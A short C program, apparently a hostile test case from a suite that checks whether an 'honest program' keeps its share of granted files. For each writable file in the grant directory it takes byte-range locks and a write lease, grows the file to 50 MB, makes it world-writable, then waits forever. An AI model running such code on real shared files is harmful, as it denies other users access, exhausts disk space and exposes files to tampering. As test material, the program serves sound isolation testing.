/* B: whatever of the grant's files can be opened for writing is locked, leased, grown and made another's to write, for
 * ever. It runs beside an honest program, which is to have its share all the same. */
#include "attack.h"

#include <dirent.h>
#include <fcntl.h>
#include <signal.h>
#include <sys/stat.h>

int main(void)
{
    char path[8300];
    DIR *directory = opendir(grant_directory());
    must(directory == NULL, grant_directory());
    signal(SIGIO, SIG_IGN); /* somebody waits for the end of a lease */
    for (struct dirent *entry = readdir(directory); entry != NULL; entry = readdir(directory)) {
        snprintf(path, sizeof path, "%s/%s", grant_directory(), entry->d_name);
        int file = open(path, O_RDWR | O_CLOEXEC);
        if (file < 0 || strcmp(entry->d_name, "grant") == 0)
            continue;
        struct flock all = {.l_type = F_RDLCK, .l_whence = SEEK_SET, .l_start = 0, .l_len = 4};
        fcntl(file, F_OFD_SETLK, &all);
        for (int at = 100; at < 40000; at += 2) {
            struct flock one = {.l_type = F_WRLCK, .l_whence = SEEK_SET, .l_start = at, .l_len = 1};
            fcntl(file, F_OFD_SETLK, &one);
        }
        fcntl(file, F_SETLEASE, F_WRLCK);
        struct stat before;
        if (fstat(file, &before) == 0 && before.st_size < 50 << 20 && ftruncate(file, 50 << 20) == 0)
            fchmod(file, 0666);
    }
    for (;;)
        pause();
}
